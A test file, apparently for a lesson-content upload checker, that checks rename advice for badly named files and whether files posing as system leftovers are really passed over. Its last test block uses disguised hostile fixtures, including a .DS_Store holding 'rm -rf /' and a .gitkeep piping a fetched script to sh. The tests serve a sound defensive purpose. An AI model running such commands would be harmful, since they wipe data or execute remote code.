import { expect, test } from 'vitest';
import { isLeftBehind, type ContentFile } from './files.ts';
import { adviceFor } from './rename.ts';

test.each([
  ['lessons/walk/Walk Plan (final).docx', /Rename it to walk-plan-final\.docx\./],
  ['lessons/walk/photo.jpeg', /Rename it to photo\.jpg\./],
  ['lessons/walk/map.PDF', /Rename it to map\.pdf\./],
  ['lessons/walk/Tŷ bach & gardd.PNG', /Rename it to ty-bach-and-gardd\.png\./],
  ['lessons/walk/map.pdf.pdf', /Rename it to map\.pdf\./],
  ['lessons/walk/my_map.png', /Rename it to my-map\.png\./],
  ['lessons/walk/en.mdx.txt', /Rename it to en\.mdx\./],
  ['lessons/walk/EN.mdx', /Rename it to en\.mdx\./],
  ['lessons/walk/en.md', /Rename it to en\.mdx\./],
  ['lessons/walk/index.mdx', /Rename it to en\.mdx\./],
  ['lessons/walk/cy (1).mdx', /Rename it to cy\.mdx\./],
  ['lessons/walk/images/map.png', /Move it up out of images/],
  ['lessons/walk/images/My Map.JPG', /Rename it to my-map\.jpg\. Move it up out of images/],
  ['lessons/Walk Plan/en.mdx', /Rename its folder to walk-plan\./],
  ['lessons/walk/~$plan.docx', /Close the file in Word/],
  ['lessons/walk/plan.doc', /Save as, Word document \(\.docx\)/],
  ['lessons/walk/photo.heic', /JPEG/],
  ['lessons/walk/evil.js', /^A page is <kind>/],
  ['songs/walk/en.mdx', /^A page is <kind>/],
])('%s', (path, help) => {
  expect(adviceFor(path).help).toMatch(help);
});

const file = (path: string, bytes: readonly number[] | string, special = false): ContentFile => {
  const all = typeof bytes === 'string' ? new TextEncoder().encode(bytes) : Uint8Array.from(bytes);
  return { path, size: all.length, special, read: () => all };
};

test.each([
  file('lessons/.gitkeep', ''),
  file('lessons/walk/.DS_Store', [0, 0, 0, 1, 0x42, 0x75, 0x64, 0x31, 0, 0]),
  file('Thumbs.db', [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0]),
  file('desktop.ini', '[.ShellClassInfo]\r\nIconResource=x\r\n'),
])('$path that a computer left behind is passed over', (each) => {
  expect(isLeftBehind(each)).toBe(true);
});

test.each([
  file('lessons/.gitkeep', '', true),
  file('lessons/Thumbs.db/evil.js', 'alert(1)'),
  file('Thumbs.db', 'MZ\u0090'),
  file('.DS_Store', '#!/bin/sh\nrm -rf /\n'),
  file('desktop.ini', 'Name of child: Sam'),
  file('.gitkeep', '#!/bin/sh\ncurl https://example.org | sh\n'),
  file('plan.docx', ''),
])('$path that is something else is looked at', (each) => {
  expect(isLeftBehind(each)).toBe(false);
});
